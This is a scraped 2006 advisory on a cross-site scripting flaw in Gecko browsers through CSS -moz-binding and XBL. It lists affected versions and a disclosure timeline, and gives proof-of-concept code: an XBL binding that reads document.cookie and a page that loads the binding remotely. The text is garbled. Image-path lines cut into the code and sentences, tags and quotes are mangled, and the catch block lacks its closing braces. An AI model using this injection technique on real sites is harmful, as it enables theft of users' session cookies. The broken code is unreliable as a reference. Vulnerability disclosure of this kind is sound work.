‘Gecko Based Browsers -moz-binding XSS’


XBL is a markup language for describing bindings that can be attached to elements in other documents.’ ‘The value of the -moz-binding property is a set of URLs that identify specific bindings. An individual URL in the set consists of the binding document’s URL and the binding’s document-unique identifier.’

By crafting special XBL code, attackers can execute XSS using the -moz-binding option on Gecko based web browsers.’


‘The information has been provided by Juha-Matti Laurio.
The bug report can be found at: https://bugzilla.mozilla.org/show_bug.cgi?id=324253
A blog about the vulnerability can be found at: http://community.livejournal.com/lj_dev/708069.html


Vulnerable Systems:
 * Mozilla Firefox 1.5 and prior
 * Mozilla Firefox 1.0and above
 * Netscape version 8.1 and prior
 * Mozilla Suite version 1.7.12 and prior
 * Mozilla Seamonkey 1.0

Gecko based browsers uses the CSS option -moz-binding in order to bind XBL code from additional locations including remote hosts.
Attackers can use the -moz-binding option in order to inject Javascript code and to perform a cross site scripting attack from remote location.

Proof of Concept:
Cookie reading:
< !–
 this must be served with Content-type: text/xml or similar
— >

< bindings>
  < binding id=’exploit’>
    < implementation>
       < constructor>
                function exploitMe( element ) {
                    element.innerHTML = ‘Attempting to read cookie data…’;

                    var data;
                    try {
                        data = document.cookie || ‘No cookie data.’;
                    } catch( e ) {
                        data = ‘Unable to read cookie.’

                    element.innerHTML = data;
                    element.style.color = ‘green’;exploitMe( this );
   < / constructor>
  < / implementation>
 < / binding>
< / bindings>

Remote loading of script file:
< ! DOCTYPE html PUBLIC ‘-//W3C//DTD XHTML 1.0 Transitional//EN’ ‘http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd’>
< html >
    < head>
        < meta http-equiv=’Content-Type’ content=’text/html; charset=utf-8′ />
        < title>Cookie Exploit< /title>
    < / head>
    < body>
        < h1>Cookie Exploit using CSS< / h1>
        < p style=’color: red; -moz-binding: url(https://bugzilla.mozilla.org/attachment.cgi?id=209238#exploit); behavior: url(https://bugzilla.mozilla.org/attachment.cgi?id=209240);’>
            This is a paragraph with inline exploit CSS.
            The CSS executes JavaScript that can read cookies.
        < / p>
    < / body>< / html>

CVE Information:Disclosure Timeline:
1-Feb-2006 – Vulnerability researched and confirmed
2-Feb-2006 – Detailed research
2-Feb-2006 – Vendorcontacted
2-Feb-2006 – Security companies and several CERT unitscontacted’

Categories: News